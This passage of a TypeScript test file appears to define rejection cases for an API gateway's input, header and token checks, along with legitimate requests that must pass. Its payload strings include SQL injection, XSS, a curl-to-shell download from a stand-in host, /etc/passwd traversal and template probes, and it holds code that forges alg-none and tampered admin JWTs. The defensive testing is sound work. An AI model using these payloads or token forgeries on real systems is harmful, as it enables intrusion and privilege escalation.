  ['BODY-242 a property the schema does not declare', noteJson({ ...validNote, admin: true }), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-243 a number where a string belongs', noteJson({ text: 1, author: 'b' }), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-244 a missing required field', noteJson({ text: 'a' }), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-245 a string over its maxLength', noteJson({ text: 'a'.repeat(3000), author: 'b' }), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-246 null for an object', note('null'), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-247 an array for an object', note('[]'), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-248 a NoSQL operator object for a string', noteJson({ text: { $ne: null }, author: 'b' }), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-249 mass assignment of a server field', order('{"item":"a","quantity":1,"id":"99"}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-250 a fraction for an integer', order('{"item":"a","quantity":1.5}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-251 a boolean for an integer', order('{"item":"a","quantity":true}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['BODY-252 text/plain where JSON is declared', note(JSON.stringify(validNote), [['content-type', 'text/plain']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-253 a form body where JSON is declared', note('text=a&author=b', [['content-type', 'application/x-www-form-urlencoded']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-254 a multipart body where JSON is declared', note('--x\r\n\r\n--x--', [['content-type', 'multipart/form-data; boundary=x']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-255 XML where JSON is declared', note('<note/>', [['content-type', 'application/xml']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-256 a body without a Content-Type', note(JSON.stringify(validNote), []), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-257 JSON declared as UTF-16', note(JSON.stringify(validNote), [['content-type', 'application/json; charset=utf-16']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-258 JSON declared as UTF-7', note(JSON.stringify(validNote), [['content-type', 'application/json; charset=utf-7']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-259 a +json type the route does not declare', note(JSON.stringify(validNote), [['content-type', 'application/merge-patch+json']]), 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-260 a body on a GET', { ...get('/orders'), headers: JSON_TYPE, body: '{}' }, 'UNSUPPORTED_MEDIA_TYPE', 415],
  ['BODY-261 a body over the size limit', note(`{"text":"${'a'.repeat(1_000_000)}","author":"b"}`), 'BODY_TOO_LARGE', 413],
  ['BODY-262 a stacked DROP TABLE in a note', noteJson({ text: "x'; DROP TABLE orders; --", author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-263 a quote-break tautology in an author', noteJson({ text: 'hi', author: "' or 1=1--" }), 'INJECTION_DETECTED', 403],
  ['BODY-264 UNION SELECT in a note', noteJson({ text: '1 UNION ALL SELECT password FROM users', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-265 a script tag in a note', noteJson({ text: '<script>alert(1)</script>', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-266 an event handler in an author', noteJson({ text: 'hi', author: '<img src=x onerror=alert(1)>' }), 'INJECTION_DETECTED', 403],
  ['BODY-267 a script tag hidden in JSON escapes', note('{"text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e","author":"b"}'), 'INJECTION_DETECTED', 403],
  ['BODY-268 a percent-encoded script tag', noteJson({ text: '%3Cscript%3Ealert(1)%3C%2Fscript%3E', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-269 an SVG onload', noteJson({ text: '<svg/onload=alert(1)>', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-270 a javascript: URL', noteJson({ text: 'javascript:alert(document.cookie)', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-271 command substitution with a download', noteJson({ text: '$(curl http://evil.example/x.sh|sh)', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-272 a shell separator and a command', noteJson({ text: 'tea && whoami', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['BODY-273 a path traversal in an array item', noteJson({ ...validNote, tags: ['../../etc/passwd'] }), 'INJECTION_DETECTED', 403],
  ['BODY-274 a NUL byte escape in a string', note('{"text":"report.pdf\\u0000.exe","author":"b"}'), 'INJECTION_DETECTED', 403],
  ["INJ-206 a shell word split by quotes in a note (c'a't /etc/passwd)", noteJson({ text: "c'a't /etc/passwd", author: 'b' }), 'INJECTION_DETECTED', 403],
  ['INJ-207 a command split by double quotes in a note (w"h"o"am"i)', noteJson({ text: 'w"h"o"am"i', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['INJ-208 a template expression in a note ({{7*7}})', noteJson({ text: '{{7*7}}', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['INJ-209 an expression-language expression in an author (${7*7})', noteJson({ text: 'hi', author: '${7*7}' }), 'INJECTION_DETECTED', 403],
  ['INJ-210 an ERB expression in a note (<%= 7*7 %>)', noteJson({ text: '<%= 7*7 %>', author: 'b' }), 'INJECTION_DETECTED', 403],
  ['INJ-211 a Ruby or Spring EL expression in a tag (#{7*7})', noteJson({ ...validNote, tags: ['#{7*7}'] }), 'INJECTION_DETECTED', 403],
  ['INJ-212 a system file behind a dot segment in a note (/etc/./passwd)', noteJson({ text: '/etc/./passwd', author: 'b' }), 'INJECTION_DETECTED', 403],

  // The actor: token and claims, again on-prem.
  ['AUTH-156 no actor on a route with required claims', order('{"item":"tea","quantity":1}', 'none'), 'TOKEN_MISSING', 401],
  ['AUTH-157 no actor on the admin route', get('/admin/stats'), 'TOKEN_MISSING', 401],
  ['AUTH-158 an orders token on the admin route', { ...get('/admin/stats'), actor: ['orders'] }, 'CLAIMS_NOT_MET', 403],
  ['AUTH-159 a reader token for an order', order('{"item":"tea","quantity":1}', ['reader']), 'CLAIMS_NOT_MET', 403],
  ['AUTH-160 a token without roles for an order', order('{"item":"tea","quantity":1}', []), 'CLAIMS_NOT_MET', 403],
  ['AUTH-161 garbage as the actor', { ...get('/orders'), actor: 'garbage' }, 'TOKEN_MALFORMED', 401],
  ['AUTH-162 an expired access token', order('{"item":"tea","quantity":1}', 'expired'), 'TOKEN_EXPIRED', 401],
  ['AUTH-163 an access token signed by an unknown key', order('{"item":"tea","quantity":1}', 'unknown-key'), 'TOKEN_KEY_UNKNOWN', 401],
  ['AUTH-164 a bearer token where an access token belongs', order('{"item":"tea","quantity":1}', 'bearer'), 'TOKEN_ISSUER_NOT_TRUSTED', 401],
  ['AUTH-165 alg none with the claims of an admin', { ...get('/admin/stats'), actor: 'alg-none' }, 'TOKEN_ALGORITHM_NOT_ALLOWED', 401],
  ['AUTH-166 a real token whose payload was swapped for an admin one', { ...get('/admin/stats'), actor: 'tampered' }, 'TOKEN_INVALID_SIGNATURE', 401],
  ['AUTH-167 an oversized actor', { ...get('/orders'), actor: 'oversized' }, 'TOKEN_TOO_LARGE', 401],

  // Single-value headers repeated (the edge's runtime joins repeated lines with ", "), the
  // rest of the hop-by-hop set, and integers spelled as a fraction, an exponent or -0.
  ['HEADER-108 two User-Agent lines as the edge joins them', get('/orders', '', [['user-agent', 'curl/8.0, evil/1.0']]), 'HEADER_INVALID', 400],
  ['HEADER-109 two Content-Type values in one line on a JSON body', note(JSON.stringify(validNote), [['content-type', 'application/json, text/plain']]), 'HEADER_INVALID', 400],
  ['HEADER-110 two If-Modified-Since dates in one line', get('/orders', '', [['if-modified-since', 'Sun, 06 Nov 1994 08:49:37 GMT, Mon, 07 Nov 1994 08:49:37 GMT']]), 'HEADER_INVALID', 400],
  ['HEADER-111 two Origin lines carried apart', get('/orders', '', [['origin', 'https://a.example'], ['origin', 'https://b.example']]), 'HEADER_INVALID', 400],
  ['HEADER-112 two Content-Type lines carried apart', withHeaders(note(JSON.stringify(validNote)), ['content-type', 'application/json']), 'HEADER_INVALID', 400],
  ['HEADER-113 HTTP2-Settings (hop-by-hop)', get('/orders', '', [['http2-settings', 'AAMAAABkAAQAoAAAAAIAAAAA']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-114 an allowed header that Connection names', get('/orders', '', [['accept-language', 'en'], ['connection', 'accept-language']]), 'HEADER_NOT_ALLOWED', 400],
  ['NUM-005 an integer quantity spelled 1e2', order('{"item":"a","quantity":1e2}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['NUM-006 an integer quantity spelled 2.0', order('{"item":"a","quantity":2.0}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['NUM-007 an integer quantity spelled 1E0', order('{"item":"a","quantity":1E0}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['NUM-008 an integer quantity spelled 100e-2', order('{"item":"a","quantity":100e-2}'), 'BODY_SCHEMA_VIOLATION', 400],
  ['NUM-009 an integer quantity spelled 5.00e+1', order('{"item":"a","quantity":5.00e+1}'), 'BODY_SCHEMA_VIOLATION', 400],
]

/** Requests that look suspicious and are legitimate: every one must reach the upstream. */
export const LEGITIMATE_CASES: Array<[name: string, request: CaseRequest]> = [
  [
    'an apostrophe in a name',
    noteJson({ text: "Please leave it with Mrs. O'Neil", author: "Siobhán O'Brien" }),
  ],
  [
    'a long but valid note',
    noteJson({
      text: 'Fragile; handle with care & keep upright. '.repeat(45).slice(0, 2000),
      author: 'Ann',
    }),
  ],
  [
    'unicode text',
    noteJson({
      text: 'お茶をもう一杯ください 🍵 — Grüße aus Köln, ¡gracias! Ελληνικά',
      author: 'Zoë Ångström',
    }),
  ],
  [
    'words that are also commands and SQL',
    noteJson({
      // The Core Rule Set reads a command right after `;` or `|` as an attack (932100,
      // 932115: `; cat lovers`, `| select`); the same words elsewhere pass.
      text: 'Tom & Jerry, cat lovers: select the blue one from the top shelf -- or the red one; either is fine',
      author: 'Sam',
    }),
  ],
  [
    'prices and comparisons',
    noteJson(
      {
        text: 'Price < 5 and > 2, 50% off (today only)',
        author: 'Shop',
        tags: ['gift', 'fragile'],
      },
      [...JSON_TYPE, ['x-note-source', 'web']],
    ),
  ],
  [
    'a matching Content-Length',
    withHeaders(note(JSON.stringify(validNote)), ['content-length', noteLength]),
  ],
  [
    'a search with every declared parameter',
    search("q=O'Reilly&sort=item&limit=5&tag=gift&tag=tea-time", [['x-client-version', '1.2']]),
  ],
  ['a percent-encoded unicode search', search('q=caf%C3%A9+cr%C3%A8me')],
  [
    'an order with an apostrophe and a dash',
    order(JSON.stringify({ item: "Earl Grey — O'Brien's blend", quantity: 2 })),
  ],
  [
    'browser headers and a declared custom header',
    get('/orders', '', [
      ['accept', 'application/json'],
      ['accept-language', 'en-GB,en;q=0.9'],
      ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64)'],
      ['sec-fetch-mode', 'cors'],
      ['x-custom', 'kept'],
    ]),
  ],
  ['an id the upstream does not have', get('/orders/123456789012')],
]

/** Builds the envelope a case describes (the relay's stamps are the runner's). */
export async function caseEnvelope(
  c: CaseRequest,
  actors: ActorMinter,
  requestId: string,
  deadline: number,
): Promise<RequestEnvelope> {
  const body =
    typeof c.body === 'string' ? new TextEncoder().encode(c.body) : (c.body ?? new Uint8Array())
  const env: RequestEnvelope = {
    requestId,
    deadline,
    method: c.method,
    host: 'demo',
    port: 443,
    path: c.path,
    query: c.query ?? '',
    headers: c.headers,
    body,
  }
  const actor = await actorFor(c.actor, actors)
  if (actor !== undefined) env.actor = actor
  return env
}

const base64url = (text: string) => Buffer.from(text, 'utf8').toString('base64url')

async function actorFor(
  spec: ActorSpec | undefined,
  actors: ActorMinter,
): Promise<string | undefined> {
  if (spec === undefined) return undefined
  if (Array.isArray(spec)) return actors.access(spec)
  switch (spec) {
    case 'none':
      return undefined
    case 'garbage':
      return 'not-a-token'
    case 'oversized':
      return `${'a'.repeat(6000)}.${'b'.repeat(6000)}.${'c'.repeat(100)}`
    case 'expired':
      return actors.expired(['orders'])
    case 'unknown-key':
      return actors.unknownKey(['orders'])
    case 'bearer':
      return actors.bearer(['orders'])
    case 'alg-none':
    case 'tampered': {
      const [header, payload, signature] = (await actors.access(['orders'])).split('.')
      const claims = JSON.parse(Buffer.from(payload!, 'base64url').toString('utf8')) as Record<
        string,
        unknown
      >
      const forged = base64url(JSON.stringify({ ...claims, roles: ['admin'] }))
      if (spec === 'tampered') return `${header}.${forged}.${signature}`
      const none = base64url(JSON.stringify({ alg: 'none', typ: 'JWT' }))
      return `${none}.${forged}.`
    }
  }
}
